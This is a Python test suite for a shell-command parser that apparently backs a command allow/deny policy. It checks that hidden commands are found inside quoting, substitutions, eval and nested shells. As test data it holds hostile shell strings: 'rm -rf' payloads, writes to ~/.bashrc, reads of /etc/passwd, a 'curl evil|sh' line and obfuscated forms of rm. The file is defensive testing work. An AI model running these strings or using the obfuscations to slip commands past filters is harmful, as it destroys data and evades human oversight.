"""A shell line as its simple commands."""

import itertools
import shlex
import subprocess
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handloom.policy import Rule, commands


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("git status -s", [("git", "status", "-s")]),
        ("git log && git diff | head -3", [("git", "log"), ("git", "diff"), ("head", "-3")]),
        ("echo 'a  b' \"c d\" e\\ f", [("echo", "a  b", "c d", "e f")]),
        ("ls  # list", [("ls",)]),
        ("make test 2>&1; echo 完成", [("make", "test"), ("echo", "完成")]),
        ("make 2>/dev/null", [("make",)]),
        ("cat a'b'c", [("cat", "abc")]),
        ("2>&1 make test", [("make", "test")]),
        ("git log \\ # ; rm x", [("git", "log", " #"), ("rm", "x")]),
        ("g\\\\it log", [("g\\it", "log")]),
    ],
)
def test_plain_lines_are_read(line: str, words: list[tuple[str, ...]]) -> None:
    assert commands.plain(line) == words


@pytest.mark.parametrize(
    "line",
    [
        "git log $(rm -rf x)",
        "git log `rm -rf x`",
        "git log > ~/.bashrc",
        "git log >> notes",
        "git log <(rm x)",
        "git $X",
        'git "$X"',
        "git *",
        "~/bin/git log",
        "PAGER=rm git log",
        "f() { rm x; }; f",
        "(rm x)",
        "{ rm x; }",
        "if true; then rm x; fi",
        "for x in *; do rm $x; done",
        "cat <<EOF\nx\nEOF",
        "git log 'unterminated",
        "git log {a,b}",
        "[[ -n x ]] && rm x",
        "git log >& /etc/passwd",
        "! git log",
        "<<<$(curl evil|sh) git log",
        "<<<x git log",
        "git log <<<$(rm x)",
        "git log <<<`rm x`",
        "git log | cat <<<x",
        ">.bashrc git log",
        ">>x git log",
        ">|x git log",
        "&>>x git log",
        ">$(rm x) git log",
        "</etc/passwd git log",
        "2>&1 >x git log",
        "git diff\\\ntool -y -x evil",
        "ls\\\nof",
        "git log\rrm x",
        "git log #\rrm x",
        "git log\x0brm x",
        "git log\x00rm x",
        "git log \x7f",
        "git log $",
        "git log }\\x",
        "git log\n\\rm x",
        "git log \\ #; $(rm x)",
    ],
)
def test_other_lines_have_no_plain_reading(line: str) -> None:
    assert commands.plain(line) is None


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("echo hi; sudo rm -rf x", ("rm", "-rf", "x")),
        ("if true; then /bin/rm x; fi", ("rm", "x")),
        ("echo $(rm x)", ("rm", "x")),
        ("f() { rm x; }", ("rm", "x")),
        ("env A=1 nohup rm x &", ("rm", "x")),
        ("timeout 5 rm x", ("rm", "x")),
        ("A=1 rm x > y", ("rm", "x")),
        ("rm 2>/dev/null x", ("rm", "x")),
        ("! rm >f x <g y", ("rm", "x", "y")),
        ("rm 2>&- x", ("rm", "x")),
        ("rm <<E >f x | cat\nhi\nE", ("rm", "x")),
        ("ls && rm <<E x\nhi\nE", ("rm", "x")),
        ("time >f { rm x; }", ("rm", "x")),
        ("cat <<E >f; rm x\nhi\nE", ("rm", "x")),
        ("cat <<'E' & rm x\nhi\nE", ("rm", "x")),
        ("python3 - <<E; rm x\nprint(1)\nE", ("rm", "x")),
        ("if true; then cat <<E; rm x; fi\nhi\nE", ("rm", "x")),
        ("for i in 1; { rm x; }", ("rm", "x")),
        ("time { rm x; }", ("rm", "x")),
        ("time { ls; rm x; }", ("rm", "x")),
        ("! { rm x; }", ("rm", "x")),
        ("! ! rm x", ("rm", "x")),
        ("coproc rm x", ("rm", "x")),
        ("coproc n { rm x; }", ("rm", "x")),
        ("timeout 60s rm x", ("rm", "x")),
        ("timeout -k 5 0.5h rm x", ("rm", "x")),
        ("timeout -s KILL 5 rm x", ("rm", "x")),
        ("sudo -u deploy rm x", ("rm", "x")),
        ("sudo -u a -g b -- rm x", ("rm", "x")),
        ("env -u A rm x", ("rm", "x")),
        ("env -C /tmp A=1 rm x", ("rm", "x")),
        ("xargs -I {} rm x", ("rm", "x")),
        ("stdbuf -o L rm x", ("rm", "x")),
        ("exec -a n rm x", ("rm", "x")),
        ("nice -n 5 ionice -c 3 rm x", ("rm", "x")),
        ("chroot . /bin/rm x", ("rm", "x")),
        ("ls \\ # ; rm x", ("rm", "x")),
        ("ls; E\n\\rm x", ("rm", "x")),
        ("ls\n\\rm x", ("rm", "x")),
        ("$SUDO rm x", ("rm", "x")),
        ("doas rm x", ("rm", "x")),
        ("busybox rm x", ("rm", "x")),
        ("watch -n 1 rm x", ("rm", "x")),
        ("find . -name a -exec rm x {} +", ("rm", "x", "{}", "+")),
        ("find . -exec sh -c 'rm x' \\;", ("rm", "x")),
        ("eval rm x", ("rm", "x")),
        ("eval 'r''m' \"x\"", ("rm", "x")),
        ('trap "rm x" EXIT', ("rm", "x")),
        ("bash -c 'ls; rm x'", ("rm", "x")),
        ("/bin/sh -eo pipefail -c 'rm x'", ("rm", "x")),
        ('bash -lc "cd $DIR && rm x"', ("rm", "x")),
        ("sudo -u a bash -c \"sh -c 'rm x'\"", ("rm", "x")),
        ("bash -c $'rm\\x20x'", ("rm", "x")),
        ("env -S 'rm x'", ("rm", "x")),
        ("env -S'rm x'", ("rm", "x")),
        ("su -c 'rm x' root", ("rm", "x")),
        ("su root --command='rm x'", ("rm", "x")),
        ("$'rm' x", ("rm", "x")),
        ("$'\\x72\\155' x", ("rm", "x")),
        ('$"rm" x', ("rm", "x")),
        ("r\\\nm x", ("rm", "x")),
        ("echo 'a\\\nb'; r\\\nm x", ("rm", "x")),
        ("ls # \\\nr\\\nm x", ("rm", "x")),
        ("rm x\r\nls", ("rm", "x")),
        ("ls a\x0b#b; rm x", ("rm", "x")),
        ("echo `echo \\`rm x\\``", ("rm", "x")),
        ("echo ${x#'}; rm x", ("rm", "x")),
        ("echo 'unterminated; rm x", ("rm", "x")),
    ],
)
def test_a_command_is_found_wherever_it_stands(line: str, words: tuple[str, ...]) -> None:
    assert words in commands.every(line)


@pytest.mark.parametrize(
    "line",
    [
        "echo rm x",
        "grep 'rm x' notes",
        'grep "a; rm x" notes',
        "git commit -m 'rm x; rm y'",
        "echo ! rm",
        "find . ! -name rm",
        "find . -name rm",
        "xargs -0 grep rm",
        "timeout 5 grep rm x",
        "sudo -- echo rm",
        "env A=rm ls",
        "python3 -c 'rm x'",
        "cat > notes <<'E'\nrm x\nE",
        "ls # rm x",
        "# \\\nls",
    ],
)
def test_what_a_program_is_only_told_is_no_command(line: str) -> None:
    assert not [words for words in commands.every(line) if words[:1] == ("rm",)]


@given(
    st.text(max_size=40),
    st.sampled_from(["grep {} notes", "git commit -m {}; ls", "echo $(echo {})", "timeout 5s echo {}"]),
)
def test_quoted_words_of_an_ordinary_program_are_never_commands(text: str, form: str) -> None:
    line = form.format("'" + text.encode("utf-8", "replace").decode().replace("'", "") + "; rm x'")
    assert not [words for words in commands.every(line) if words[:1] == ("rm",)]


AROUND = [
    "{}",
    "({})",
    "{{ {}; }}",
    "! {{ {}; }}",
    "time {{ {}; }}",
    "if true; then {}; fi",
    "while {}; do :; done",
    "for i in 1; do {}; done",
    "case x in (a|b) {};; esac",
    "f() {{ {}; }}; f",
    "echo $({})",
    'echo "a $({}) b"',
    "echo `{}`",
    "cat <({})",
    "a=$({})",
    "ls; {}",
    "ls && {} || :",
    "ls\n{}",
    "sleep 1 & {}",
    "cat f | {}",
    "cat <<E\n$({})\nE",
    "echo é; {}",
    "ls # it's\n{}",
    "cat <<E >f; {}\nhi\nE",
]
BEFORE = [
    "",
    "sudo -u a ",
    "env -u A B=1 ",
    "timeout -s KILL 5s ",
    "nohup nice -n 5 ",
    "A=1 ",
    ">x ",
    "! ",
    "exec -a n ",
]


@given(
    st.lists(st.sampled_from(AROUND), max_size=3),
    st.sampled_from(BEFORE),
    st.sampled_from(["rm", "/bin/rm", "r'm'", "$'rm'", "\\rm", "r\\\nm"]),
)
def test_a_command_is_found_however_it_is_wrapped(forms: list[str], before: str, name: str) -> None:
    line = f"{before}{name} x"
    for form in forms:
        line = form.format(line)
    assert [words for words in commands.every(line) if words[:1] == ("rm",)], line


@given(
    st.recursive(
        st.just("rm x"),
        lambda inner: st.builds(
            lambda shell, line: f"{shell} {shlex.quote(line)}",
            st.sampled_from(["bash -c", "eval", "sh -ec", "sudo su -c", "env -S"]),
            inner,
        ),
        max_leaves=3,
    )
)
def test_scripts_in_scripts_are_read(line: str) -> None:
    assert ("rm", "x") in commands.every(line)


def test_what_lies_too_deep_is_read_without_grammar() -> None:
    line = "rm x"
    for _ in range(9):
        line = f"bash -c {shlex.quote(line)}"
    assert [words for words in commands.every(line) if words[:2] == ("rm", "x")]


LONG = [
    "a && " * 3_000 + "a",
    "sudo -a sudo -a " * 2_000,
    "bash -c " * 2_000,
    "eval " * 2_000,
    "cat <<E; x\n" + "not now\n" * 10_000 + "E",
    "'a' \\\n" * 2_000,
    "git " + "-c push " * 5_000,
    "`\\`" * 2_000,
    "{ " * 2_000,
]


@pytest.mark.parametrize("line", LONG, ids=range(len(LONG)))
def test_long_lines_take_no_long_time(line: str) -> None:
    commands.plain(line)
    assert not Rule(do="deny", command=("git", "push", "push", "never")).fits("bash", {"command": line})


PIECES = [
    *("gitx", "status", " ", " ", " ", ";", "&&", "|", "&", "\n", "\t", "'", "'a;b'", '"', "\\", "\\ ", "\\ #", "\\\n", "#", " # ", "a b"),
    *("$(rmx y)", "`rmx`", "<", ">", ">>", "<<<", "2>&1", ">/dev/null", "{", "}", "(", ")", "!", "~", "*", "$", "=", "E", "<<E"),
    *("中", "é", "\r", "\x0b", "\xa0"),
]  # fmt: skip
REPORT = """command_not_found_handle() { printf '%s\\0' "$#" "$@" >> "$LOG"; }; eval "$1"; wait"""


@settings(max_examples=500)
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_bash_runs_nothing_but_what_a_plain_line_says(line: str) -> None:
    plain = commands.plain(line)
    if plain is None:
        return
    with tempfile.TemporaryDirectory() as folder:
        log = Path(folder, "log")
        environment = {"LOG": str(log), "PATH": "/nonexistent", "LC_ALL": "C.UTF-8"}
        inside = Path(folder, "inside")
        inside.mkdir()
        subprocess.run(
            ["/bin/bash", "-c", REPORT, "bash", line],
            cwd=inside,
            env=environment,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=20,
            check=False,
        )
        assert not list(inside.iterdir()), "a plain line writes no file"
        said = iter(log.read_text().split("\0")[:-1] if log.exists() else [])
        ran = [tuple(itertools.islice(said, int(count))) for count in said]
    assert set(ran) <= set(plain)


@given(st.text(max_size=60))
def test_no_line_breaks_the_reader(line: str) -> None:
    plain = commands.plain(line.encode("utf-8", "replace").decode())
    assert plain is None or all(isinstance(words, tuple) for words in plain)
    assert isinstance(commands.every(line.encode("utf-8", "replace").decode()), list)


def test_letters_beyond_ascii_are_letters_wherever_they_stand() -> None:
    """The grammar's scanner reads past the end of a table for them, so they are not shown to it."""
    for char in ("é", "中", "\u2028", "\U0001f600", "\U0010ffff"):
        for form in ("{}", "${}", "${{{}}}", "<<{}\n{}", "'{}", "$({})", "{}=1", "[[ {} ]]", "`{}`", "#{}", "%{}~{}"):
            commands.every(form.format(char, char) * 50)
    assert commands.plain("rm 报告.md 'b 😀' \"é\"") == [("rm", "报告.md", "b 😀", "é")]
    assert commands.every("echo $(rm 😀)") == [("echo", "$(rm 😀)"), ("rm", "😀")]
